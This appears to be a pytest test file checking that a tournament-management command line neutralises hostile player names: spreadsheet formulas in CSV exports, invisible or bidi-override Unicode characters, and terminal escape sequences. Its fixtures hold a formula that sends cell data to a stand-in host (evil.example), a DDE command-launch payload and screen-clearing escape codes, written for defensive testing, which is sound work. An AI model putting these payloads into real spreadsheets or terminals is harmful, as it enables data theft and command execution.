"""Hostile names at the tournament desk: formulas in the CSV a spreadsheet opens, invisible characters that make
two players of one name, escape sequences that repaint the terminal.  Through the real command line and file."""

import csv
import io
import json
import sqlite3
import unicodedata

import pytest
from hypothesis import given, strategies as st

from companion.plain_text import clean_name, terminal_safe
from companion.tournament import Desk, TournamentError
from companion.tournament.cli import main
from companion.tournament.export import FORMULA_START, spreadsheet_safe


@pytest.fixture
def run(tmp_path, capsys):
    db = str(tmp_path / "t.sqlite3")

    def run(*argv, ok=True):
        code = main([argv[0], "--db", db, *argv[1:]])
        out = capsys.readouterr()
        assert code == (0 if ok else 2), out
        return out
    run.db = db
    return run


FORMULAS = ['=HYPERLINK("http://evil.example/?q="&A1,"click")', "+SUM(1,2)", "-2+3", "@cmd|' /C calc'!A0"]


def test_names_that_look_like_formulas_stay_text_in_the_csv(run):
    run("new", "Open", "--seed", "1")
    names = FORMULAS + ["Aki", "Ben", "Chie", "Dan"]
    for name in names:
        run("add", "Open", "--", name)  # "--": a name may start with "-"
    seating = json.loads(run("seat", "Open", "--json").out)
    for t in seating["tables"]:
        s = t["seats"]
        run("result", f"--winner={s[0]}", "Open", "1", str(t["table"]), "--",
            f"{s[0]}=10", f"{s[1]}=7", f"{s[2]}=5", f"{s[3]}=3")
    for command in (["standings", "Open", "--csv", "-"], ["slips", "Open", "1", "--csv", "-"]):
        rows = list(csv.reader(io.StringIO(run(*command).out)))
        cells = [c for row in rows[1:] for c in row]
        assert not [c for c in cells if c.startswith(FORMULA_START) and not c.lstrip("-").replace(".", "").isdigit()]
        shown = {c[1:] for c in cells if c.startswith("'")}
        assert shown == set(FORMULAS), "each formula-like name is kept whole behind one quote"
    standings = list(csv.DictReader(io.StringIO(run("standings", "Open", "--csv", "-").out)))
    assert [r["rank"] for r in standings] == sorted((r["rank"] for r in standings), key=int)
    assert all(r["vp"].isdigit() and r["wins"].isdigit() for r in standings), "numbers stay numbers"


@pytest.mark.parametrize("cell, written", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-x", "'-x"), ("@A1", "'@A1"), ("\tx", "'\tx"), ("\r=1", "'\r=1"),
    ("-2", "-2"), ("-2.50", "-2.50"), ("12", "12"), ("Aki", "Aki"), ("", ""), ("a=b", "a=b")])
def test_the_csv_rule_cell_by_cell(cell, written):
    assert spreadsheet_safe(cell) == written


@given(st.text())
def test_no_cell_a_spreadsheet_would_run(text):
    cell = spreadsheet_safe(text)
    assert not cell.startswith(FORMULA_START) or cell.lstrip("-").replace(".", "", 1).isdigit()
    assert cell in (text, "'" + text)


@pytest.mark.parametrize("name, reason", [
    ("Aki\u200b", "U+200B ZERO WIDTH SPACE"), ("\u200bAki", "U+200B"), ("A\x1b[2Jki", "U+001B"),
    ("Aki\u202egnp.exe", "U+202E"), ("Ak\u0000i", "U+0000"), ("Ak\ni", "U+000A"), ("A" * 81, "at most 80")])
def test_a_name_with_a_character_that_does_not_show_is_refused_and_nothing_changes(run, name, reason):
    run("new", "Open", "--seed", "1")
    run("add", "Open", "Aki")
    before = run("export", "Open").out
    err = run("add", "Open", "--", name, ok=False).err
    assert reason in err and "\x1b" not in err and err.count("\n") == 1
    assert run("export", "Open").out == before


def test_one_name_in_two_unicode_spellings_is_one_player(run):
    run("new", "Open", "--seed", "1")
    run("add", "Open", "Jose\u0301")  # e + combining acute: what some keyboards send
    err = run("add", "Open", "Jos\u00e9", ok=False).err  # the precomposed é
    assert "already registered" in err
    players = json.loads(run("players", "Open", "--json").out)
    assert [p["name"] for p in players] == ["Jos\u00e9"] and unicodedata.is_normalized("NFC", players[0]["name"])
    assert "Jos\u00e9" in run("drop", "Open", "Jose\u0301").out  # typed either way, found


def test_csv_import_refuses_an_invisible_character_by_line(tmp_path, run):
    run("new", "Open", "--seed", "1")
    sheet = tmp_path / "players.csv"
    sheet.write_text("name,club\nAki,Tokyo\nAki\u200b,Osaka\n", encoding="utf-8")
    err = run("import-players", "Open", str(sheet), ok=False).err
    assert "CSV line 3" in err and "U+200B" in err
    assert json.loads(run("players", "Open", "--json").out) == []


def test_escape_sequences_in_a_file_from_before_never_reach_the_terminal(run):
    run("new", "Open", "--seed", "1")
    for name in ("Aki", "Ben", "Chie"):
        run("add", "Open", name)
    db = sqlite3.connect(run.db)  # a name stored before names were checked
    db.execute("UPDATE players SET name = ? WHERE name = 'Chie'", ("Chie\x1b[2J\x1b]0;owned\x07\x9b31m",))
    db.commit()
    db.close()
    run("add", "Open", "Dan")
    run("seat", "Open")
    outputs = [run("players", "Open"), run("standings", "Open"), run("tables", "Open"), run("slips", "Open", "1"),
               run("audit", "Open"), run("players", "Open", "--json"), run("export", "Open"),
               run("standings", "Open", "--csv", "-"), run("result", "Open", "1", "1", "Nobody=3", ok=False)]
    for out in outputs:
        for stream in (out.out, out.err):
            assert not set(stream) & {"\x1b", "\x9b", "\x07"}, stream
    assert "Chie" in outputs[0].out
    json.loads(outputs[5].out)  # still JSON, with the name escaped


@given(st.text())
def test_terminal_safe_leaves_no_control_character_but_newline_and_tab(text):
    shown = terminal_safe(text)
    assert all(c in "\n\t" or unicodedata.category(c) != "Cc" for c in shown)


@given(st.text(min_size=1))
def test_a_clean_name_is_nfc_and_shows_every_character(text):
    try:
        name = clean_name(text)
    except ValueError as error:
        assert str(error)
        return
    assert unicodedata.is_normalized("NFC", name) and name == name.strip() and 0 < len(name) <= 80
    assert not any(unicodedata.category(c) in ("Cc", "Cf", "Cs", "Zl", "Zp") for c in name)


def test_the_desk_itself_refuses_a_zero_width_name(tmp_path):
    with Desk(tmp_path / "t.sqlite3") as desk:
        ev = desk.create_event("Open", seed=1)
        desk.add_player(ev.id, "Aki")
        with pytest.raises(TournamentError, match="U\\+200B"):
            desk.add_player(ev.id, "Aki\u200b")
        with pytest.raises(TournamentError, match="U\\+200D"):
            desk.create_event("Open\u200d", seed=1)
        assert [p.name for p in desk.players(ev.id)] == ["Aki"]


def test_what_argparse_echoes_back_is_terminal_safe_too(tmp_path, capsys):
    with pytest.raises(SystemExit) as stop:
        main(["events", "--db", str(tmp_path / "t.sqlite3"), "\x1b[2J\x1b]0;owned\x07"])
    assert stop.value.code == 2
    err = capsys.readouterr().err
    assert "unrecognized arguments" in err and not set(err) & {"\x1b", "\x07"}
